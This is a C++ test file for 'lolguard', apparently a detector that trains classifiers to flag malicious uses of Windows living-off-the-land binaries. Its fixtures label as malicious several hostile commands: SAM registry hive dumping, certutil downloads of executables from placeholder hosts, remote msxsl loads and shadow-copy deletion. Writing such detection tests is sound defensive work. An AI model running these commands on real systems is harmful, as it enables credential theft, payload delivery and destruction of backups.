#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <sys/wait.h>

#include <json.hpp>

#include "lolguard/rng.hpp"

namespace fs = std::filesystem;

namespace {

struct RunResult {
    int exit_code = -1;
    std::string out;
};

RunResult run_cli(const std::string& args, const std::string& stdin_path = {}) {
    std::string cmd = std::string(LOLGUARD_CLI_PATH) + " " + args;
    if (!stdin_path.empty())
        cmd += " < " + stdin_path;
    else
        cmd += " < /dev/null";
    cmd += " 2>/dev/null";

    RunResult result;
    FILE* pipe = popen(cmd.c_str(), "r");
    REQUIRE(pipe != nullptr);
    char buf[4096];
    while (std::size_t n = std::fread(buf, 1, sizeof(buf), pipe)) result.out.append(buf, n);
    const int status = pclose(pipe);
    result.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    return result;
}

std::vector<std::string> lines_of(const std::string& text) {
    std::vector<std::string> lines;
    std::stringstream ss(text);
    std::string line;
    while (std::getline(ss, line))
        if (!line.empty()) lines.push_back(line);
    return lines;
}

// Small three-binary dataset: enough signal to train in well under a second.
void write_fixture_dataset(const fs::path& path) {
    std::ofstream out(path);
    auto emit = [&out](const std::string& binary, const std::string& command,
                       const std::string& label) {
        nlohmann::json j{{"binary", binary}, {"command", command}, {"label", label}};
        out << j.dump() << "\n";
    };
    for (int i = 0; i < 16; ++i)
        emit("reg", "reg query hklm\\software\\app" + std::to_string(i % 4) + " /v v" +
                        std::to_string(i), "benign");
    for (int i = 0; i < 6; ++i)
        emit("reg", "reg save hklm\\sam c:\\temp\\out" + std::to_string(i) + ".hiv", "malicious");
    for (int i = 0; i < 14; ++i)
        emit("certutil", "certutil -dump cert" + std::to_string(i) + ".cer", "benign");
    for (int i = 0; i < 6; ++i)
        emit("certutil",
             "certutil -urlcache -split -f http://h" + std::to_string(i) + ".example/p.exe p.exe",
             "malicious");
    for (int i = 0; i < 5; ++i)
        emit("msxsl", "msxsl http://h" + std::to_string(i) + ".example/a.xml b.xsl", "malicious");
}

struct Fixture {
    fs::path dir;
    fs::path dataset;
    fs::path artifacts;

    Fixture() {
        dir = fs::temp_directory_path() / "lolguard-cli-test";
        fs::remove_all(dir);
        fs::create_directories(dir);
        dataset = dir / "dataset.jsonl";
        artifacts = dir / "artifacts";
        write_fixture_dataset(dataset);
        const RunResult r = run_cli("train --dataset " + dataset.string() + " --artifacts " +
                                    artifacts.string() + " --seed 7");
        REQUIRE(r.exit_code == 0);
    }
    ~Fixture() { fs::remove_all(dir); }

    fs::path write_lines(const std::string& name, const std::vector<std::string>& lines) const {
        const fs::path p = dir / name;
        std::ofstream out(p);
        for (const auto& l : lines) out << l << "\n";
        return p;
    }
};

std::uint64_t hash_file(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return lolguard::fnv1a64(ss.str());
}

} // namespace

TEST_CASE("train prints the summary table and persists artifacts") {
    Fixture fx;
    const RunResult r = run_cli("train --dataset " + fx.dataset.string() + " --artifacts " +
                                fx.artifacts.string() + " --seed 7");
    CHECK(r.exit_code == 0);
    const auto lines = lines_of(r.out);
    REQUIRE(lines.size() >= 5); // header + 3 binaries + AVERAGE
    CHECK(lines[0].find("binary") == 0);
    CHECK(lines[0].find("classifier") != std::string::npos);
    CHECK(r.out.find("AVERAGE") != std::string::npos);
    CHECK(r.out.find("msxsl") != std::string::npos);
    // the benign-free binary carries no metrics
    for (const auto& line : lines)
        if (line.find("msxsl") == 0) CHECK(line.find("---") != std::string::npos);

    CHECK(fs::exists(fx.artifacts / "manifest.json"));
    CHECK(fs::exists(fx.artifacts / "reg" / "vocab.txt"));
    CHECK(fs::exists(fx.artifacts / "certutil" / "model.bin"));
    CHECK(fs::exists(fx.artifacts / "msxsl" / "metrics.json"));
}

TEST_CASE("train is byte-reproducible for a fixed seed") {
    Fixture fx;
    const fs::path second = fx.dir / "artifacts2";
    const RunResult r = run_cli("train --dataset " + fx.dataset.string() + " --artifacts " +
                                second.string() + " --seed 7");
    REQUIRE(r.exit_code == 0);
    for (const std::string rel :
         {"manifest.json", "reg/vocab.txt", "reg/model.bin", "reg/metrics.json",
          "certutil/model.bin", "msxsl/model.bin"})
        CHECK(hash_file(fx.artifacts / rel) == hash_file(second / rel));
}

TEST_CASE("train reports dataset problems with exit 2") {
    Fixture fx;
    const fs::path bad = fx.write_lines("bad.jsonl", {R"({"binary":"reg","command":"x"})"});
    CHECK(run_cli("train --dataset " + bad.string() + " --artifacts " +
                  (fx.dir / "a2").string())
              .exit_code == 2);
    CHECK(run_cli("train --dataset /nonexistent.jsonl --artifacts " + (fx.dir / "a3").string())
              .exit_code == 2);
    const fs::path empty = fx.write_lines("empty.jsonl", {});
    CHECK(run_cli("train --dataset " + empty.string() + " --artifacts " + (fx.dir / "a4").string())
              .exit_code == 2);
}

TEST_CASE("train reports unwritable artifact directories with exit 3") {
    Fixture fx;
    CHECK(run_cli("train --dataset " + fx.dataset.string() +
                  " --artifacts /proc/lolguard-denied")
              .exit_code == 3);
}

TEST_CASE("predict single command sets the exit code from the label") {
    Fixture fx;
    const std::string art = " --artifacts " + fx.artifacts.string();

    const RunResult mal = run_cli("predict" + art + " --json \"reg save hklm\\sam c:\\x.hiv\"");
    CHECK(mal.exit_code == 1);
    const nlohmann::json jm = nlohmann::json::parse(lines_of(mal.out).at(0));
    CHECK(jm["binary"] == "reg");
    CHECK(jm["label"] == "malicious");
    CHECK(jm["suppressed"] == false);
    CHECK(jm["score"].get<double>() >= 0.5);

    const RunResult ben = run_cli("predict" + art + " --json \"reg query hklm\\software\\app1 /v v2\"");
    CHECK(ben.exit_code == 0);
    CHECK(nlohmann::json::parse(lines_of(ben.out).at(0))["label"] == "benign");
}

TEST_CASE("predict stream keeps going in lenient mode and stops in strict mode") {
    Fixture fx;
    const std::string art = " --artifacts " + fx.artifacts.string();
    const fs::path input = fx.write_lines("stream.txt", {
                                                            "reg query hklm\\software\\app0 /v v1",
                                                            "notepad.exe c:\\x.txt",
                                                            "certutil -urlcache -split -f http://new.example/a.exe a.exe",
                                                        });

    const RunResult lenient = run_cli("predict" + art + " --json", input.string());
    CHECK(lenient.exit_code == 1); // the certutil line is malicious
    const auto lines = lines_of(lenient.out);
    REQUIRE(lines.size() == 3);
    CHECK(nlohmann::json::parse(lines[1]).contains("error"));
    CHECK(nlohmann::json::parse(lines[2])["label"] == "malicious");

    const RunResult strict = run_cli("predict" + art + " --strict --json", input.string());
    CHECK(strict.exit_code == 2);
    CHECK(lines_of(strict.out).size() == 2); // stops at the unroutable line

    const fs::path empty = fx.write_lines("empty-stream.txt", {});
    const RunResult none = run_cli("predict" + art, empty.string());
    CHECK(none.exit_code == 0);
    CHECK(none.out.empty());
}

TEST_CASE("predict exit codes track printed labels on random mixes") {
    Fixture fx;
    const std::string art = " --artifacts " + fx.artifacts.string();
    const std::vector<std::string> pool = {
        "reg query hklm\\software\\app2 /v v5",
        "certutil -dump cert9.cer",
        "reg save hklm\\sam c:\\temp\\x.hiv",
        "certutil -urlcache -split -f http://h9.example/z.exe z.exe",
        "reg.exe",
    };
    std::mt19937_64 rng(3);
    for (int trial = 0; trial < 8; ++trial) {
        std::vector<std::string> batch;
        const auto n = 1 + rng() % 6;
        for (std::uint64_t i = 0; i < n; ++i) batch.push_back(pool[rng() % pool.size()]);
        const fs::path input = fx.write_lines("mix.txt", batch);
        const RunResult r = run_cli("predict" + art + " --json", input.string());
        bool any_malicious = false;
        for (const auto& line : lines_of(r.out)) {
            const auto j = nlohmann::json::parse(line);
            if (!j.contains("error") && j["label"] == "malicious") any_malicious = true;
        }
        CHECK(r.exit_code == (any_malicious ? 1 : 0));
    }
}

TEST_CASE("whitelisted commands are suppressed and exit clean") {
    Fixture fx;
    const std::string cmd = "reg save hklm\\sam c:\\temp\\allowed.hiv";
    {
        std::ofstream out(fx.artifacts / "whitelist.txt");
        out << "# operator-approved exception\n";
        out << "exact:" << cmd << "\n";
    }
    const RunResult r =
        run_cli("predict --artifacts " + fx.artifacts.string() + " --json \"" + cmd + "\"");
    CHECK(r.exit_code == 0);
    const auto j = nlohmann::json::parse(lines_of(r.out).at(0));
    CHECK(j["suppressed"] == true);
    CHECK(j["label"] == "benign");
    CHECK(j["score"].get<double>() >= 0.5); // score is retained
}

TEST_CASE("predict honors the LOLGUARD_ARTIFACTS environment variable") {
    Fixture fx;
    const std::string cmd = "LOLGUARD_ARTIFACTS=" + fx.artifacts.string() + " " +
                            LOLGUARD_CLI_PATH + " predict --json \"reg.exe\" < /dev/null 2>/dev/null";
    FILE* pipe = popen(cmd.c_str(), "r");
    REQUIRE(pipe != nullptr);
    std::string out;
    char buf[1024];
    while (std::size_t n = std::fread(buf, 1, sizeof(buf), pipe)) out.append(buf, n);
    const int status = pclose(pipe);
    CHECK(WEXITSTATUS(status) == 0);
    CHECK(nlohmann::json::parse(lines_of(out).at(0))["score"] == 0.0);
}

TEST_CASE("evaluate prints per-binary detections and a TOTAL row") {
    Fixture fx;
    const std::string art = " --artifacts " + fx.artifacts.string();
    const fs::path validation = fx.write_lines(
        "validation.jsonl",
        {
            R"({"binary":"reg","command":"reg save hklm\\sam c:\\v1.hiv","label":"malicious"})",
            R"({"binary":"certutil","command":"certutil -urlcache -split -f http://v.example/v.exe v.exe","label":"malicious"})",
            R"({"binary":"msxsl","command":"msxsl http://v.example/v.xml v.xsl","label":"malicious"})",
        });
    const RunResult r = run_cli("evaluate" + art + " --validation " + validation.string());
    CHECK(r.exit_code == 0);
    const auto lines = lines_of(r.out);
    CHECK(lines.front().find("binary") == 0);
    CHECK(lines.back().find("TOTAL") == 0);
    CHECK(lines.back().find("3/3") != std::string::npos);
    // alphabetical rows between header and TOTAL
    std::vector<std::string> names;
    for (std::size_t i = 1; i + 1 < lines.size(); ++i)
        names.push_back(lines[i].substr(0, lines[i].find(' ')));
    CHECK(std::is_sorted(names.begin(), names.end()));

    // benign rows trigger the confusion-metrics block; a sample for a
    // supported but untrained binary counts as a miss instead of aborting
    const fs::path mixed = fx.write_lines(
        "validation2.jsonl",
        {
            R"({"binary":"reg","command":"reg save hklm\\sam c:\\v2.hiv","label":"malicious"})",
            R"({"binary":"reg","command":"reg query hklm\\software\\app0 /v v0","label":"benign"})",
            R"({"binary":"wmic","command":"wmic shadowcopy delete","label":"malicious"})",
        });
    const RunResult r2 = run_cli("evaluate" + art + " --validation " + mixed.string());
    CHECK(r2.exit_code == 0);
    CHECK(r2.out.find("accuracy") != std::string::npos);
    CHECK(r2.out.find("f1") != std::string::npos);
    CHECK(r2.out.find("wmic") != std::string::npos);
    for (const auto& line : lines_of(r2.out))
        if (line.find("wmic") == 0) CHECK(line.find("0/1") != std::string::npos);

    const fs::path empty = fx.write_lines("validation3.jsonl", {});
    CHECK(run_cli("evaluate" + art + " --validation " + empty.string()).exit_code == 2);
}

TEST_CASE("tokenize prints tokens and optional vectors") {
    Fixture fx;
    const std::string art = " --artifacts " + fx.artifacts.string();

    const RunResult r = run_cli("tokenize \"certutil https://malicious[.]com\"");
    CHECK(r.exit_code == 0);
    CHECK(r.out.find("<url>") != std::string::npos);

    const RunResult rv = run_cli("tokenize" + art + " --vectors \"reg query hklm\\software\"");
    CHECK(rv.exit_code == 0);
    const auto lines = lines_of(rv.out);
    REQUIRE(lines.size() == 3); // token line + one vector line per token
    CHECK(lines[1].find("0:") == 0);
    CHECK(lines[2].find("1:") == 0);
    CHECK(lines[1].find(":1") != std::string::npos); // target weight 1.0

    const RunResult rj = run_cli("tokenize --json \"reg query hklm\\software\"");
    CHECK(rj.exit_code == 0);
    const auto j = nlohmann::json::parse(lines_of(rj.out).at(0));
    CHECK(j["binary"] == "reg");
    CHECK(j["tokens"].size() == 2);

    CHECK(run_cli("tokenize \"notepad.exe x\"").exit_code == 2);
}
